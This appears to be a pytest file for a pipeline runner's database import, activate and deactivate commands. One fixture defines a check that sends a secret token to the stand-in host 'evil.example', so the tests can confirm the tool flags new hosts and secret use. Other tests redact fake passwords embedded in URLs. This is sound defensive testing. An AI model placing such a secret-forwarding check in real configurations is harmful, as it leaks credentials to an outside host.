"""`db import`, `db activate` and `db deactivate`, as processes of their own against real databases."""

from __future__ import annotations

import json
import subprocess
import sys
from hashlib import sha256
from typing import TYPE_CHECKING

import pytest

from tests.conftest import CLEAN
from tests.roles import user_of

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from pathlib import Path

    from tests.conftest import Ended
    from tests.databases import Store

    Cli = Callable[..., Ended]

SHOP = """\
# Ärger mit dem Shop → ask ops
version: "1.0"
description: Is the shop up?
timeout: 10s
nodes:
  - id: probe
    type: context
    config:
      checks:
        - {type: http, name: home, url: "https://shop.example/"}   # the front page
"""
CHANGED = """\
# Ärger mit dem Shop → ask ops
version: "1.0"
description: Is the shop open?
timeout: 60s
secrets: [TOKEN]
nodes:
  - id: probe
    type: context
    config:
      checks:
        - {type: http, name: api, url: "https://evil.example/", headers: {Authorization: "{{ secrets.TOKEN }}"}}
        - {type: command, name: load, argv: [uptime]}
  - id: tell
    type: notify
    always: true
    config: {driver: log}
"""
PLAIN = '{"version": "1.0", "nodes": [{"id": "a", "type": "transform"}]}'
UNNAMED = "no database is named — set PIPELINE_DATABASE_URL to its URL"
CHARACTERS = "letters, digits, '.', '_' and '-', 255 at most"
OWN = "import goes to pipeline_definition"
EARLIER = "orchestration_pipelinedefinition"
BAD = 'version: "1.0"\nnodes:\n  - {id: a, type: transfrm}\n'
BAD_LINE = 'bad.yaml:3:19 E206 nodes[0].type: unknown node type "transfrm" — did you mean "transform"?'


def env(store: Store, **more: str) -> dict[str, str]:
    return {"PIPELINE_DATABASE_URL": store.text, "USER": "someone", **more}


def write(folder: Path, files: Mapping[str, str]) -> None:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8", newline="")


def definitions(store: Store) -> list[tuple[object, ...]]:
    found = store.rows("select name, revision, active, description, tags from pipeline_definition order by name")
    return [
        (name, revision, bool(active), description, json.loads(tags))
        for name, revision, active, description, tags in found
    ]


def revisions(store: Store) -> list[tuple[object, ...]]:
    return store.rows(
        "select name, revision, format, document, sha256, author from pipeline_definition_revision"
        " order by name, revision"
    )


def hashed(text: str) -> str:
    return sha256(text.encode()).hexdigest()


def test_files_and_folders_become_definitions_as_they_are_written(cli: Cli, store: Store, tmp_path: Path) -> None:
    crlf = SHOP.replace("\n", "\r\n")
    write(tmp_path, {"all/shop.yaml": SHOP, "all/deep/plain.json": PLAIN, "all/notes.txt": "no", "crlf.yml": crlf})
    ended = cli("db", "import", "all", "crlf.yml", "--tag", "web", "--tag", "nightly", env=env(store))
    assert (ended.code, ended.err) == (0, "")
    assert ended.out.splitlines() == [
        "shop: new, 1 node",
        "  new host shop.example",
        "  tags web, nightly added",
        "plain: new, 1 node",
        "  tags web, nightly added",
        "crlf: new, 1 node",
        "  new host shop.example",
        "  tags web, nightly added",
        f"3 of 3 definitions written to {store.database}",
    ]
    tags = ["web", "nightly"]
    assert definitions(store) == [
        ("crlf", 1, True, "Is the shop up?", tags),
        ("plain", 1, True, "", tags),
        ("shop", 1, True, "Is the shop up?", tags),
    ]
    assert revisions(store) == [
        ("crlf", 1, "yaml", crlf, hashed(crlf), "someone"),
        ("plain", 1, "json", PLAIN, hashed(PLAIN), "someone"),
        ("shop", 1, "yaml", SHOP, hashed(SHOP), "someone"),
    ]


def test_a_change_is_told_in_words_and_becomes_a_revision_beside_the_one_before(
    cli: Cli, store: Store, tmp_path: Path
) -> None:
    write(tmp_path, {"shop.yaml": SHOP, "plain.json": PLAIN})
    cli("db", "import", "shop.yaml", "plain.json", "--tag", "web", env=env(store))
    write(tmp_path, {"shop.yaml": CHANGED})
    dry = cli("db", "import", "shop.yaml", "plain.json", "--dry-run", env=env(store))
    lines = [
        "shop@1 → 2:",
        "  description Is the shop up? → Is the shop open?",
        "  timeout 10s → 60s",
        "  check probe.api added",
        "  check probe.load added",
        "  check probe.home removed",
        "  node tell (notify) added",
        "  new host evil.example",
        "  new command uptime",
        "  new use of secret TOKEN in probe",
        "  host shop.example no longer used",
        "  runs get its secrets only where PIPELINE_ALLOW_SECRETS lists them: TOKEN",
        "  runs start its commands only with --allow-commands",
        "plain@1: unchanged",
    ]
    assert (dry.code, dry.err) == (0, "")
    assert dry.out.splitlines() == [*lines, f"1 of 2 definitions would be written to {store.database}"]
    assert [row[:2] for row in revisions(store)] == [("plain", 1), ("shop", 1)]
    ended = cli("db", "import", "shop.yaml", "plain.json", "--author", "ann", env=env(store, GITHUB_ACTOR="bot"))
    assert ended.out.splitlines() == [*lines, f"1 of 2 definitions written to {store.database}"]
    assert [(*row[:2], row[3], row[5]) for row in revisions(store)] == [
        ("plain", 1, PLAIN, "someone"),
        ("shop", 1, SHOP, "someone"),
        ("shop", 2, CHANGED, "ann"),
    ]
    assert definitions(store)[1] == ("shop", 2, True, "Is the shop open?", ["web"])


def test_what_has_not_changed_is_left_alone(cli: Cli, store: Store, tmp_path: Path) -> None:
    write(tmp_path, {"shop.yaml": SHOP})
    cli("db", "import", "shop.yaml", env=env(store))
    before = store.rows("select * from pipeline_definition"), store.rows("select * from pipeline_definition_revision")
    ended = cli("db", "import", "shop.yaml", env=env(store))
    assert ended.out == f"shop@1: unchanged\n0 of 1 definition written to {store.database}\n"
    assert before == (
        store.rows("select * from pipeline_definition"),
        store.rows("select * from pipeline_definition_revision"),
    )


def test_a_comment_makes_a_revision_and_tags_alone_do_not(cli: Cli, store: Store, tmp_path: Path) -> None:
    write(tmp_path, {"shop.yaml": SHOP})
    cli("db", "import", "shop.yaml", "--tag", "web", env=env(store))
    retagged = cli("db", "import", "shop.yaml", "--tag", "shop", env=env(store))
    assert retagged.out.splitlines()[:2] == ["shop@1: the same text", "  tags web → shop"]
    write(tmp_path, {"shop.yaml": f"{SHOP}# that is all\n"})
    commented = cli("db", "import", "shop.yaml", env=env(store))
    assert commented.out.splitlines()[:2] == [
        "shop@1 → 2:",
        "  nothing but comments, layout or notation changed",
    ]
    assert definitions(store) == [("shop", 2, True, "Is the shop up?", ["shop"])]


def test_as_json_it_says_the_same(cli: Cli, shelf: Store, tmp_path: Path) -> None:
    write(tmp_path, {"shop.yaml": SHOP})
    cli("db", "import", "shop.yaml", env=env(shelf))
    write(tmp_path, {"shop.yaml": SHOP.replace("10s", "60s"), "new.yaml": CHANGED})
    told = json.loads(cli("db", "import", "shop.yaml", "new.yaml", "--dry-run", "--json", env=env(shelf)).out)
    assert (told["database"], told["dry_run"]) == (str(shelf.database), True)
    shop, new = told["definitions"]
    assert shop == {
        "name": "shop",
        "path": "shop.yaml",
        "state": "changed",
        "revision_before": 1,
        "revision": 2,
        "sha256": hashed(SHOP.replace("10s", "60s")),
        "active": True,
        "changes": [
            {
                "kind": "changed",
                "what": "timeout",
                "where": "",
                "before": "10s",
                "after": "60s",
                "text": "timeout 10s → 60s",
            }
        ],
        "allow_secrets": [],
        "allow_commands": False,
    }
    assert (new["state"], new["revision_before"], new["revision"]) == ("new", None, 1)
    assert (new["allow_secrets"], new["allow_commands"]) == (["TOKEN"], True)


def test_one_that_is_invalid_keeps_all_out_and_is_told_as_validate_does(cli: Cli, shelf: Store, tmp_path: Path) -> None:
    write(tmp_path, {"bad.yaml": BAD, "shop.yaml": SHOP})
    ended, validated = (
        cli("db", "import", "bad.yaml", "shop.yaml", env=env(shelf)),
        cli("validate", "bad.yaml", "shop.yaml"),
    )
    assert ended == validated
    counted = [BAD_LINE, "shop.yaml: ok (shop, 1 node)", "1 error, 0 warnings"]
    assert (ended.code, ended.out.splitlines()[:3]) == (3, counted)
    assert definitions(shelf) == []
    told = json.loads(cli("db", "import", "bad.yaml", "shop.yaml", "--json", env=env(shelf)).out)
    assert [one["valid"] for one in told["files"]] == [False, True]


def test_what_no_definition_of_a_database_may_say_is_refused(cli: Cli, shelf: Store, tmp_path: Path) -> None:
    write(tmp_path, {"shop.yaml": SHOP.replace("timeout", "allow_hosts: [10.0.0.1]\ntimeout")})
    ended = cli("db", "import", "shop.yaml", env=env(shelf))
    assert ended.code == 3
    assert ended.out.splitlines()[0] == (
        "shop.yaml:4:14 E308 allow_hosts: a definition from a database cannot allow itself hosts"
        " — remove it, or keep the definition as a file of the repository"
    )


def test_a_warning_is_told_and_keeps_nothing_out(cli: Cli, shelf: Store, tmp_path: Path) -> None:
    write(tmp_path, {"shop.yaml": CHANGED.replace("    always: true\n", "")})
    ended = cli("db", "import", "shop.yaml", env=env(shelf))
    assert (ended.code, ended.err.partition(" nodes")[0]) == (0, "warning: shop.yaml:13:5 W501")


def test_secrets_in_plain_text_are_not_repeated(cli: Cli, shelf: Store, tmp_path: Path) -> None:
    write(tmp_path, {"shop.yaml": SHOP.replace("https://shop.example/", "https://me:hunter2hunter2@shop.example/")})
    cli("db", "import", "shop.yaml", env=env(shelf))
    write(tmp_path, {"shop.yaml": SHOP.replace("https://shop.example/", "https://me:swordfish99@shop.example/x")})
    ended = cli("db", "import", "shop.yaml", env=env(shelf))
    assert ended.out.splitlines()[1] == "  probe.home: url https://shop.example/ → https://shop.example/x"
    for secret in ("hunter2hunter2", "swordfish99"):
        assert secret not in ended.out + ended.err


def test_imports_at_the_same_moment_lose_nothing(store: Store, tmp_path: Path) -> None:
    names = ("one", "two", "three", "four")
    for place, name in enumerate(names):
        write(tmp_path, {f"{name}/shop.yaml": SHOP.replace("10s", f"{place + 1}0s")})
    command = [sys.executable, "-m", "runner", "db", "import"]
    running = [
        subprocess.Popen(
            [*command, name],
            cwd=tmp_path,
            env={**CLEAN, **env(store)},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for name in names
    ]
    said = [process.communicate() for process in running]
    assert [process.returncode for process in running] == [0] * 4, said
    found = revisions(store)
    assert [row[1] for row in found] == [1, 2, 3, 4]
    assert {row[3] for row in found} == {SHOP.replace("10s", f"{place}0s") for place in (1, 2, 3, 4)}
    assert definitions(store)[0][1] == 4


def test_the_author_is_who_the_ci_system_names_else_the_user(cli: Cli, shelf: Store, tmp_path: Path) -> None:
    write(tmp_path, {"a.yaml": SHOP, "b.yaml": SHOP})
    cli("db", "import", "a.yaml", env=env(shelf, GITHUB_ACTOR="octocat"))
    cli("db", "import", "b.yaml", env=env(shelf, USER="", LOGNAME="ann"))
    assert [(row[0], row[5]) for row in revisions(shelf)] == [("a", "octocat"), ("b", "ann")]


def test_a_name_that_the_earlier_apps_table_has_too_is_told(cli: Cli, store: Store, tmp_path: Path) -> None:
    store.make_earlier()
    store.define_earlier("shop", {"version": "1.0", "nodes": []})
    write(tmp_path, {"shop.yaml": SHOP})
    ended = cli("db", "import", "shop.yaml", env=env(store))
    both = "shop is in orchestration_pipelinedefinition, too: whoever runs it has to say which"
    assert (ended.code, ended.err) == (0, f"warning: {both}, with PIPELINE_DEFINITIONS_TABLE=pipeline_definition\n")


def test_a_user_who_may_only_read_sees_what_would_change_and_writes_nothing(
    cli: Cli, server: Store, tmp_path: Path
) -> None:
    write(tmp_path, {"shop.yaml": SHOP})
    cli("db", "import", "shop.yaml", env=env(server))
    write(tmp_path, {"shop.yaml": CHANGED})
    tables = ("pipeline_definition", "pipeline_definition_revision", "pipeline_schema")
    with user_of(server, *(f"select on {table}" for table in tables)) as url:
        dry = cli("db", "import", "shop.yaml", "--dry-run", env={"PIPELINE_DATABASE_URL": url})
        ended = cli("db", "import", "shop.yaml", env={"PIPELINE_DATABASE_URL": url})
    assert (dry.code, dry.out.splitlines()[0]) == (0, "shop@1 → 2:")
    assert (ended.code, ended.out) == (4, "")
    said = "permission denied for table" if server.kind == "postgresql" else "UPDATE command denied to user"
    assert ended.err.startswith(f"error: {server.database} does not permit this: {said}")
    assert [row[1] for row in revisions(server)] == [1]


@pytest.mark.parametrize(
    ("arguments", "more", "code", "message"),
    [
        (("zzz.yaml",), {}, 4, "File not found: zzz.yaml — Searched {}/zzz.yaml"),
        (("empty",), {}, 2, "no definition in empty — a folder's .yaml, .yml and .json are checked"),
        (
            ("db:shop",),
            {},
            2,
            "db:shop is in a database, and files are wanted here — pipeline-runner db export shop writes it to one",
        ),
        (
            ("shop.yaml", "two/shop.yaml"),
            {},
            2,
            "shop.yaml and two/shop.yaml have the same name, and a database has one shop — import one of them",
        ),
        (
            ("-shop.yaml",),
            {},
            2,
            f"-shop.yaml cannot be imported: its name cannot be a definition's — {CHARACTERS}",
        ),
        (("shop.yaml",), {"PIPELINE_DATABASE_URL": ""}, 2, UNNAMED),
        (
            ("shop.yaml",),
            {"PIPELINE_DEFINITIONS_TABLE": EARLIER},
            2,
            f"PIPELINE_DEFINITIONS_TABLE is {EARLIER}, which the runner only reads — {OWN}",
        ),
        (
            ("shop.yaml",),
            {"PIPELINE_DATABASE_URL": "postgresql://me:secret-word@127.0.0.1:1/shop"},
            75,
            "connection refused by postgresql at 127.0.0.1:1/shop",
        ),
        (
            ("shop.yaml",),
            {"PIPELINE_DATABASE_URL": "sqlite:///bare.db"},
            4,
            "the SQLite file bare.db has no tables of pipeline-runner — make them with: pipeline-runner db upgrade",
        ),
    ],
    ids=["missing", "nothing", "in a database", "twice", "name", "no database", "the app's table", "down", "no tables"],
)  # fmt: skip
def test_what_cannot_be_imported_is_one_clear_error(
    cli: Cli, tmp_path: Path, arguments: tuple[str, ...], more: dict[str, str], code: int, message: str
) -> None:
    write(tmp_path, {"shop.yaml": SHOP, "two/shop.yaml": SHOP, "-shop.yaml": SHOP, "empty/x.txt": "", "bare.db": ""})
    place = {"PIPELINE_DATABASE_URL": f"sqlite:///{tmp_path}/own.db"}
    cli("db", "upgrade", env=place)
    ended = cli("db", "import", "--", *arguments, env={**place, **more})
    assert (ended.code, ended.out, ended.err) == (code, "", f"error: {message.format(tmp_path)}\n")


def test_an_inactive_definition_is_refused_by_name_until_it_is_active_again(
    cli: Cli, store: Store, tmp_path: Path
) -> None:
    write(tmp_path, {"shop.yaml": PLAIN, "other.yaml": PLAIN})
    cli("db", "import", "shop.yaml", "other.yaml", env=env(store))
    run = ("--definition", "db:shop", "--dry-run")
    assert cli(*run, env=env(store)).code == 0
    off = cli("db", "deactivate", "shop", env=env(store))
    assert (off.code, off.out, off.err) == (0, "shop: inactive\n", "")
    refused = cli(*run, env=env(store))
    message = (
        f"Pipeline definition not active: shop in {store.database} — make it so with: pipeline-runner db activate shop"
    )
    assert (refused.code, refused.err) == (4, f"error: {message}\n")
    write(tmp_path, {"shop.yaml": SHOP})
    changed = cli("db", "import", "shop.yaml", env=env(store))
    assert changed.out.splitlines()[0] == "shop@1 → 2 (inactive):"
    assert [row[2] for row in definitions(store)] == [True, False]
    on = cli("db", "activate", "shop", "other", env=env(store))
    assert on.out == "shop: active\nother: active already\n"
    assert cli(*run, env=env(store)).code == 0
    told = json.loads(cli("db", "deactivate", "other", "--json", env=env(store)).out)
    assert told == {"database": str(store.database), "active": False, "changed": ["other"]}


def test_switching_what_is_not_there_switches_nothing(cli: Cli, store: Store, tmp_path: Path) -> None:
    store.make_earlier()
    store.define_earlier("health", {"version": "1.0", "nodes": []})
    write(tmp_path, {"shop.yaml": PLAIN})
    cli("db", "import", "shop.yaml", env=env(store))
    missing = cli("db", "deactivate", "shop", "shp", env=env(store))
    message = (
        f'Pipeline definition not found: shp — did you mean "shop"? Searched pipeline_definition of {store.database}'
    )
    assert (missing.code, missing.out, missing.err) == (4, "", f"error: {message}\n")
    earlier = cli("db", "deactivate", "health", env=env(store))
    message = f"health stands in orchestration_pipelinedefinition of {store.database}, which the runner only reads"
    assert (earlier.code, earlier.err) == (4, f"error: {message}: switch it in the app\n")
    assert definitions(store)[0][2] is True
